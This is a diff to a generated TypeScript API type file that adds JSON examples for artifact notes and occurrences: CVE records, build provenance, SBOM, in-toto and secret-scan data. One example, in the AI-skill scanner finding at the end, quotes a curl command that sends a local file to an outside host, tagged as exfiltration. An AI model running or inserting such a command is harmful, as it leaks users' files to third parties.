@@ -615,7 +615,285 @@ export interface components {
         };
         /** @description Nothing. */
         "google.Empty": Record<string, never>;
-        /** @description Something that can be found, done or signed, described once by its provider. */
+        /**
+         * @description Something that can be found, done or signed, described once by its provider.
+         * @example {
+         *       "shortDescription": "CVE-2024-0001",
+         *       "longDescription": "Checking long keys may take a very long time.",
+         *       "relatedUrl": [
+         *         {
+         *           "url": "https://vulnerabilities.example.com/CVE-2024-0001",
+         *           "label": "Advisory"
+         *         }
+         *       ],
+         *       "vulnerability": {
+         *         "cvssScore": 7.5,
+         *         "severity": "HIGH",
+         *         "details": [
+         *           {
+         *             "cpeUri": "cpe:/o:debian:debian_linux:12",
+         *             "package": "openssl",
+         *             "minAffectedVersion": {
+         *               "kind": "MINIMUM"
+         *             },
+         *             "maxAffectedVersion": {
+         *               "name": "3.0.10",
+         *               "inclusive": true,
+         *               "kind": "NORMAL"
+         *             },
+         *             "severityName": "HIGH",
+         *             "fixedLocation": {
+         *               "cpeUri": "cpe:/o:debian:debian_linux:12",
+         *               "package": "openssl",
+         *               "version": {
+         *                 "name": "3.0.11",
+         *                 "revision": "1~deb12u2",
+         *                 "kind": "NORMAL"
+         *               }
+         *             },
+         *             "packageType": "OS",
+         *             "source": "debian"
+         *           }
+         *         ],
+         *         "cvssV3": {
+         *           "baseScore": 7.5,
+         *           "exploitabilityScore": 3.9,
+         *           "impactScore": 3.6,
+         *           "attackVector": "ATTACK_VECTOR_NETWORK",
+         *           "attackComplexity": "ATTACK_COMPLEXITY_LOW",
+         *           "privilegesRequired": "PRIVILEGES_REQUIRED_NONE",
+         *           "userInteraction": "USER_INTERACTION_NONE",
+         *           "scope": "SCOPE_UNCHANGED",
+         *           "confidentialityImpact": "IMPACT_NONE",
+         *           "integrityImpact": "IMPACT_NONE",
+         *           "availabilityImpact": "IMPACT_HIGH"
+         *         },
+         *         "windowsDetails": [
+         *           {
+         *             "cpeUri": "cpe:/o:microsoft:windows_10",
+         *             "name": "CVE-2024-0001",
+         *             "fixingKbs": [
+         *               {
+         *                 "name": "KB5004945",
+         *                 "url": "https://support.example.com/KB5004945"
+         *               }
+         *             ]
+         *           }
+         *         ],
+         *         "sourceUpdateTime": "2024-01-09T00:00:00Z",
+         *         "cwe": [
+         *           "CWE-606"
+         *         ],
+         *         "cvssVersion": "CVSS_VERSION_3"
+         *       }
+         *     }
+         * @example {
+         *       "shortDescription": "The builder of the platform team.",
+         *       "build": {
+         *         "builderVersion": "1.4.2",
+         *         "signature": {
+         *           "publicKey": "-----BEGIN",
+         *           "signature": "c2lnbmF0dXJl",
+         *           "keyId": "ci",
+         *           "keyType": "PKIX_PEM"
+         *         }
+         *       }
+         *     }
+         * @example {
+         *       "baseImage": {
+         *         "resourceUrl": "https://registry.example.com/debian@sha256:7b1e8c",
+         *         "fingerprint": {
+         *           "v1Name": "sha256:7b1e8c",
+         *           "v2Blob": [
+         *             "sha256:4bf512",
+         *             "sha256:9d3a11"
+         *           ]
+         *         }
+         *       }
+         *     }
+         * @example {
+         *       "package": {
+         *         "name": "openssl",
+         *         "distribution": [
+         *           {
+         *             "cpeUri": "cpe:/o:debian:debian_linux:12",
+         *             "architecture": "X64",
+         *             "latestVersion": {
+         *               "name": "3.0.11",
+         *               "revision": "1",
+         *               "kind": "NORMAL"
+         *             },
+         *             "maintainer": "openssl@example.com"
+         *           }
+         *         ],
+         *         "packageType": "OS",
+         *         "cpeUri": "cpe:/o:debian:debian_linux:12",
+         *         "architecture": "X64",
+         *         "version": {
+         *           "name": "3.0.11",
+         *           "revision": "1",
+         *           "kind": "NORMAL"
+         *         },
+         *         "license": {
+         *           "expression": "Apache-2.0"
+         *         },
+         *         "digest": [
+         *           {
+         *             "algo": "SHA1",
+         *             "digestBytes": "S/USLw=="
+         *           }
+         *         ]
+         *       }
+         *     }
+         * @example {
+         *       "deployable": {
+         *         "resourceUri": [
+         *           "https://registry.example.com/app@sha256:4bf5122f344554c53bde2ebb8cd2b7e3d1600ad631c385a5d7cce23c7785459a"
+         *         ]
+         *       }
+         *     }
+         * @example {
+         *       "shortDescription": "Nightly scan.",
+         *       "discovery": {
+         *         "analysisKind": "VULNERABILITY"
+         *       }
+         *     }
+         * @example {
+         *       "shortDescription": "Passed quality assurance.",
+         *       "attestationAuthority": {
+         *         "hint": {
+         *           "humanReadableName": "qa"
+         *         }
+         *       }
+         *     }
+         * @example {
+         *       "intoto": {
+         *         "stepName": "build",
+         *         "signingKeys": [
+         *           {
+         *             "keyId": "ab12",
+         *             "keyType": "rsa",
+         *             "publicKeyValue": "-----BEGIN",
+         *             "keyScheme": "rsassa"
+         *           }
+         *         ],
+         *         "expectedMaterials": [
+         *           {
+         *             "artifactRule": [
+         *               "MATCH",
+         *               "src/*",
+         *               "FROM",
+         *               "clone"
+         *             ]
+         *           }
+         *         ],
+         *         "expectedProducts": [
+         *           {
+         *             "artifactRule": [
+         *               "CREATE",
+         *               "app"
+         *             ]
+         *           }
+         *         ],
+         *         "expectedCommand": [
+         *           "make",
+         *           "app"
+         *         ],
+         *         "threshold": "9007199254740993"
+         *       }
+         *     }
+         * @example {
+         *       "sbom": {
+         *         "spdxVersion": "SPDX-2.3",
+         *         "dataLicence": "CC0-1.0"
+         *       }
+         *     }
+         * @example {
+         *       "spdxPackage": {
+         *         "title": "openssl",
+         *         "version": "3.0.11",
+         *         "supplier": "Organization: Debian",
+         *         "downloadLocation": "https://packages.example.com/openssl-3.0.11.tar.gz",
+         *         "analyzed": true,
+         *         "filesLicenseInfo": [
+         *           "Apache-2.0"
+         *         ],
+         *         "licenseDeclared": {
+         *           "expression": "Apache-2.0"
+         *         },
+         *         "externalRefs": [
+         *           {
+         *             "category": "PACKAGE_MANAGER",
+         *             "type": "purl",
+         *             "locator": "pkg:deb/debian/openssl@3.0.11"
+         *           }
+         *         ],
+         *         "packageType": "OS"
+         *       }
+         *     }
+         * @example {
+         *       "spdxFile": {
+         *         "title": "main.c",
+         *         "fileType": "SOURCE",
+         *         "checksum": [
+         *           "SHA1: 4bf5122f"
+         *         ]
+         *       }
+         *     }
+         * @example {
+         *       "spdxRelationship": {
+         *         "type": "CONTAINS"
+         *       }
+         *     }
+         * @example {
+         *       "vulnerabilityAssessment": {
+         *         "title": "CVE-2024-0001 in app",
+         *         "languageCode": "en",
+         *         "publisher": {
+         *           "name": "Example",
+         *           "publisherNamespace": "https://example.com"
+         *         },
+         *         "product": {
+         *           "name": "app",
+         *           "id": "app-1",
+         *           "genericUri": "pkg:oci/app@sha256:4bf5122f"
+         *         },
+         *         "assessment": {
+         *           "vulnerabilityId": "CVE-2024-0001",
+         *           "state": "NOT_AFFECTED",
+         *           "impacts": [
+         *             "none"
+         *           ],
+         *           "justification": {
+         *             "justificationType": "VULNERABLE_CODE_NOT_IN_EXECUTE_PATH",
+         *             "details": "Keys are never checked."
+         *           },
+         *           "remediations": [
+         *             {
+         *               "remediationType": "NO_FIX_PLANNED",
+         *               "remediationUri": {
+         *                 "url": "https://example.com/vex"
+         *               }
+         *             }
+         *           ]
+         *         }
+         *       }
+         *     }
+         * @example {
+         *       "sbomReference": {
+         *         "format": "spdx",
+         *         "version": "2.3"
+         *       }
+         *     }
+         * @example {
+         *       "shortDescription": "Credentials in images.",
+         *       "secret": {}
+         *     }
+         * @example {
+         *       "shortDescription": "Examination of skills.",
+         *       "aiSkillAnalysis": {}
+         *     }
+         */
         Note: {
             /** @description projects/PROVIDER/notes/NOTE. */
             readonly name?: string;
@@ -1206,7 +1484,441 @@ export interface components {
             /** @description Asks for the next page; empty on the last one. */
             nextPageToken?: string;
         };
-        /** @description A note found on an artifact. */
+        /**
+         * @description A note found on an artifact.
+         * @example {
+         *       "resource": {
+         *         "uri": "https://registry.example.com/app@sha256:4bf5122f344554c53bde2ebb8cd2b7e3d1600ad631c385a5d7cce23c7785459a"
+         *       },
+         *       "noteName": "projects/scanners/notes/CVE-2024-0001",
+         *       "remediation": "Upgrade openssl to 3.0.11-1~deb12u2.",
+         *       "vulnerability": {
+         *         "type": "OS",
+         *         "severity": "HIGH",
+         *         "cvssScore": 7.5,
+         *         "packageIssue": [
+         *           {
+         *             "affectedLocation": {
+         *               "cpeUri": "cpe:/o:debian:debian_linux:12",
+         *               "package": "openssl",
+         *               "version": {
+         *                 "name": "3.0.9",
+         *                 "revision": "1",
+         *                 "kind": "NORMAL"
+         *               }
+         *             },
+         *             "fixedLocation": {
+         *               "cpeUri": "cpe:/o:debian:debian_linux:12",
+         *               "package": "openssl",
+         *               "version": {
+         *                 "name": "3.0.11",
+         *                 "revision": "1~deb12u2",
+         *                 "kind": "NORMAL"
+         *               }
+         *             },
+         *             "packageType": "OS"
+         *           }
+         *         ],
+         *         "shortDescription": "CVE-2024-0001",
+         *         "effectiveSeverity": "MEDIUM",
+         *         "vexAssessment": {
+         *           "vulnerabilityId": "CVE-2024-0001",
+         *           "state": "AFFECTED",
+         *           "remediations": [
+         *             {
+         *               "remediationType": "VENDOR_FIX",
+         *               "details": "Upgrade."
+         *             }
+         *           ]
+         *         }
+         *       }
+         *     }
+         * @example {
+         *       "resource": {
+         *         "uri": "https://registry.example.com/app@sha256:4bf5122f344554c53bde2ebb8cd2b7e3d1600ad631c385a5d7cce23c7785459a"
+         *       },
+         *       "noteName": "projects/builders/notes/ci",
+         *       "build": {
+         *         "provenance": {
+         *           "id": "build-4711",
+         *           "projectId": "platform",
+         *           "commands": [
+         *             {
+         *               "name": "npm",
+         *               "env": [
+         *                 "CI=true"
+         *               ],
+         *               "args": [
+         *                 "ci"
+         *               ],
+         *               "dir": "/src",
+         *               "id": "install"
+         *             }
+         *           ],
+         *           "builtArtifacts": [
+         *             {
+         *               "checksum": "sha256:4bf5122f",
+         *               "id": "https://registry.example.com/app@sha256:4bf5122f344554c53bde2ebb8cd2b7e3d1600ad631c385a5d7cce23c7785459a",
+         *               "names": [
+         *                 "app:1.0"
+         *               ]
+         *             }
+         *           ],
+         *           "createTime": "2024-05-02T03:04:05Z",
+         *           "startTime": "2024-05-02T03:04:06.123456789Z",
+         *           "creator": "ci@example.com",
+         *           "logsUri": "https://ci.example.com/4711/log",
+         *           "sourceProvenance": {
+         *             "fileHashes": {
+         *               "package.json": {
+         *                 "fileHash": [
+         *                   {
+         *                     "type": "SHA256",
+         *                     "value": "S/USLw=="
+         *                   }
+         *                 ]
+         *               }
+         *             },
+         *             "context": {
+         *               "git": {
+         *                 "url": "https://git.example.com/app",
+         *                 "revisionId": "4bf5122f"
+         *               },
+         *               "labels": {
+         *                 "branch": "main"
+         *               }
+         *             }
+         *           },
+         *           "buildOptions": {
+         *             "cache": "off"
+         *           },
+         *           "builderVersion": "1.4.2"
+         *         },
+         *         "provenanceBytes": "{\"id\":\"build-4711\"}"
+         *       }
+         *     }
+         * @example {
+         *       "resource": {
+         *         "uri": "https://registry.example.com/app@sha256:4bf5122f344554c53bde2ebb8cd2b7e3d1600ad631c385a5d7cce23c7785459a"
+         *       },
+         *       "noteName": "projects/images/notes/debian-12",
+         *       "derivedImage": {
+         *         "derivedImage": {
+         *           "fingerprint": {
+         *             "v1Name": "sha256:7b1e8c",
+         *             "v2Blob": [
+         *               "sha256:4bf512",
+         *               "sha256:9d3a11"
+         *             ]
+         *           },
+         *           "distance": 2,
+         *           "layerInfo": [
+         *             {
+         *               "directive": "COPY",
+         *               "arguments": ". /app"
+         *             },
+         *             {
+         *               "directive": "ENTRYPOINT"
+         *             }
+         *           ]
+         *         }
+         *       }
+         *     }
+         * @example {
+         *       "resource": {
+         *         "uri": "https://registry.example.com/app@sha256:4bf5122f344554c53bde2ebb8cd2b7e3d1600ad631c385a5d7cce23c7785459a"
+         *       },
+         *       "noteName": "projects/packages/notes/openssl",
+         *       "installation": {
+         *         "installation": {
+         *           "location": [
+         *             {
+         *               "cpeUri": "cpe:/o:debian:debian_linux:12",
+         *               "version": {
+         *                 "name": "3.0.11",
+         *                 "revision": "1",
+         *                 "kind": "NORMAL"
+         *               },
+         *               "path": "/usr/lib/libssl.so.3"
+         *             }
+         *           ],
+         *           "license": {
+         *             "expression": "Apache-2.0"
+         *           }
+         *         }
+         *       }
+         *     }
+         * @example {
+         *       "resource": {
+         *         "uri": "https://registry.example.com/app@sha256:4bf5122f344554c53bde2ebb8cd2b7e3d1600ad631c385a5d7cce23c7785459a"
+         *       },
+         *       "noteName": "projects/platform/notes/app",
+         *       "deployment": {
+         *         "deployment": {
+         *           "userEmail": "ops@example.com",
+         *           "deployTime": "2024-05-02T03:04:05Z",
+         *           "undeployTime": "2024-05-03T03:04:05.600Z",
+         *           "config": "replicas: 3",
+         *           "address": "https://app.example.com",
+         *           "platform": "CUSTOM"
+         *         }
+         *       }
+         *     }
+         * @example {
+         *       "resource": {
+         *         "uri": "https://registry.example.com/app@sha256:4bf5122f344554c53bde2ebb8cd2b7e3d1600ad631c385a5d7cce23c7785459a"
+         *       },
+         *       "noteName": "projects/scanners/notes/nightly-scan",
+         *       "discovered": {
+         *         "discovered": {
+         *           "continuousAnalysis": "ACTIVE",
+         *           "analysisStatus": "FINISHED_SUCCESS",
+         *           "analysisCompleted": {
+         *             "analysisType": [
+         *               "vulnerability"
+         *             ]
+         *           },
+         *           "analysisError": [
+         *             {
+         *               "code": 14,
+         *               "message": "the feed could not be read",
+         *               "details": [
+         *                 {
+         *                   "@type": "type.googleapis.com/google.rpc.ErrorInfo",
+         *                   "reason": "FEED",
+         *                   "domain": "example.com"
+         *                 }
+         *               ]
+         *             }
+         *           ],
+         *           "sbomStatus": {
+         *             "sbomState": "COMPLETE"
+         *           },
+         *           "lastScanTime": "2024-05-02T03:04:05.678Z",
+         *           "files": [
+         *             {
+         *               "name": "package-lock.json",
+         *               "digest": {
+         *                 "sha256": "4bf5122f"
+         *               }
+         *             }
+         *           ]
+         *         }
+         *       }
+         *     }
+         * @example {
+         *       "resource": {
+         *         "uri": "https://registry.example.com/app@sha256:4bf5122f344554c53bde2ebb8cd2b7e3d1600ad631c385a5d7cce23c7785459a"
+         *       },
+         *       "noteName": "projects/authorities/notes/qa",
+         *       "attestation": {
+         *         "attestation": {
+         *           "genericSignedAttestation": {
+         *             "contentType": "SIMPLE_SIGNING_JSON",
+         *             "serializedPayload": "eyJjcml0aWNhbCI6e319",
+         *             "signatures": [
+         *               {
+         *                 "signature": "c2lnbmF0dXJl",
+         *                 "publicKeyId": "ni:///sha-256;abc"
+         *               }
+         *             ]
+         *           }
+         *         }
+         *       }
+         *     }
+         * @example {
+         *       "resource": {
+         *         "uri": "https://registry.example.com/app@sha256:4bf5122f344554c53bde2ebb8cd2b7e3d1600ad631c385a5d7cce23c7785459a"
+         *       },
+         *       "noteName": "projects/supply-chain/notes/build-step",
+         *       "intoto": {
+         *         "signatures": [
+         *           {
+         *             "keyid": "ab12",
+         *             "sig": "90ab"
+         *           }
+         *         ],
+         *         "signed": {
+         *           "command": [
+         *             "make",
+         *             "app"
+         *           ],
+         *           "materials": [
+         *             {
+         *               "resourceUri": "file://src/main.c",
+         *               "hashes": {
+         *                 "sha256": "9d3a11"
+         *               }
+         *             }
+         *           ],
+         *           "products": [
+         *             {
+         *               "resourceUri": "file://app",
+         *               "hashes": {
+         *                 "sha256": "4bf512"
+         *               }
+         *             }
+         *           ],
+         *           "byproducts": {
+         *             "customValues": {
+         *               "return-value": "0"
+         *             }
+         *           },
+         *           "environment": {
+         *             "customValues": {
+         *               "workdir": "/src"
+         *             }
+         *           }
+         *         }
+         *       }
+         *     }
+         * @example {
+         *       "resource": {
+         *         "uri": "https://registry.example.com/app@sha256:4bf5122f344554c53bde2ebb8cd2b7e3d1600ad631c385a5d7cce23c7785459a"
+         *       },
+         *       "noteName": "projects/sboms/notes/spdx",
+         *       "sbom": {
+         *         "id": "SPDXRef-DOCUMENT",
+         *         "title": "app",
+         *         "namespace": "https://sboms.example.com/app-1.0",
+         *         "licenseListVersion": "3.21",
+         *         "creators": [
+         *           "Tool: sbom-maker-1.2"
+         *         ],
+         *         "createTime": "2024-05-02T03:04:05Z"
+         *       }
+         *     }
+         * @example {
+         *       "resource": {
+         *         "uri": "https://registry.example.com/app@sha256:4bf5122f344554c53bde2ebb8cd2b7e3d1600ad631c385a5d7cce23c7785459a"
+         *       },
+         *       "noteName": "projects/sboms/notes/openssl",
+         *       "spdxPackage": {
+         *         "id": "SPDXRef-openssl",
+         *         "filename": "openssl-3.0.11.deb",
+         *         "licenseConcluded": {
+         *           "expression": "Apache-2.0",
+         *           "comments": "From the header."
+         *         }
+         *       }
+         *     }
+         * @example {
+         *       "resource": {
+         *         "uri": "https://registry.example.com/app@sha256:4bf5122f344554c53bde2ebb8cd2b7e3d1600ad631c385a5d7cce23c7785459a"
+         *       },
+         *       "noteName": "projects/sboms/notes/main.c",
+         *       "spdxFile": {
+         *         "id": "SPDXRef-main.c",
+         *         "licenseConcluded": {
+         *           "expression": "MIT"
+         *         },
+         *         "filesLicenseInfo": [
+         *           "MIT"
+         *         ],
+         *         "contributors": [
+         *           "Jo"
+         *         ]
+         *       }
+         *     }
+         * @example {
+         *       "resource": {
+         *         "uri": "https://registry.example.com/app@sha256:4bf5122f344554c53bde2ebb8cd2b7e3d1600ad631c385a5d7cce23c7785459a"
+         *       },
+         *       "noteName": "projects/sboms/notes/contains",
+         *       "spdxRelationship": {
+         *         "source": "SPDXRef-app",
+         *         "target": "SPDXRef-openssl",
+         *         "comment": "Linked in."
+         *       }
+         *     }
+         * @example {
+         *       "resource": {
+         *         "uri": "https://registry.example.com/app@sha256:4bf5122f344554c53bde2ebb8cd2b7e3d1600ad631c385a5d7cce23c7785459a"
+         *       },
+         *       "noteName": "projects/sboms/notes/spdx-reference",
+         *       "sbomReference": {
+         *         "payload": {
+         *           "_type": "https://in-toto.io/Statement/v1",
+         *           "predicateType": "https://example.com/sbom-reference/v1",
+         *           "subject": [
+         *             {
+         *               "name": "app",
+         *               "digest": {
+         *                 "sha256": "4bf5122f"
+         *               }
+         *             }
+         *           ],
+         *           "predicate": {
+         *             "referrerId": "sbom-maker",
+         *             "location": "https://sboms.example.com/app-1.0.spdx.json",
+         *             "mimeType": "application/spdx+json",
+         *             "digest": {
+         *               "sha256": "9d3a11"
+         *             }
+         *           }
+         *         },
+         *         "payloadType": "application/vnd.in-toto+json",
+         *         "signatures": [
+         *           {
+         *             "sig": "c2lnbmF0dXJl",
+         *             "keyid": "ab12"
+         *           }
+         *         ]
+         *       }
+         *     }
+         * @example {
+         *       "resource": {
+         *         "uri": "https://registry.example.com/app@sha256:4bf5122f344554c53bde2ebb8cd2b7e3d1600ad631c385a5d7cce23c7785459a"
+         *       },
+         *       "noteName": "projects/scanners/notes/secrets",
+         *       "secret": {
+         *         "kind": "SECRET_KIND_GITHUB_OAUTH_TOKEN",
+         *         "locations": [
+         *           {
+         *             "fileLocation": {
+         *               "filePath": "/app/.env"
+         *             }
+         *           }
+         *         ],
+         *         "statuses": [
+         *           {
+         *             "status": "INVALID",
+         *             "updateTime": "2024-05-02T03:04:05Z",
+         *             "message": "Revoked."
+         *           }
+         *         ],
+         *         "data": {
+         *           "@type": "type.googleapis.com/google.protobuf.Struct",
+         *           "value": {
+         *             "line": 12
+         *           }
+         *         },
+         *         "digest": {
+         *           "algo": "SHA256",
+         *           "digestBytes": "S/USLw=="
+         *         }
+         *       }
+         *     }
+         * @example {
+         *       "resource": {
+         *         "uri": "https://registry.example.com/app@sha256:4bf5122f344554c53bde2ebb8cd2b7e3d1600ad631c385a5d7cce23c7785459a"
+         *       },
+         *       "noteName": "projects/scanners/notes/skills",
+         *       "aiSkillAnalysis": {
+         *         "skillName": "release-notes",
+         *         "findings": [
+         *           {
+         *             "ruleId": "exfiltration-1",
+         *             "category": "exfiltration",
+         *             "severity": "HIGH",
+         *             "title": "Sends files to a foreign host.",
+         *             "filePath": "SKILL.md",
+         *             "snippet": "curl -d @notes.txt https://example.com"
+         *           }
+         *         ]
+         *       }
+         *     }
+         */
         Occurrence: {
             /** @description projects/CONSUMER/occurrences/OCCURRENCE. */
             readonly name?: string;
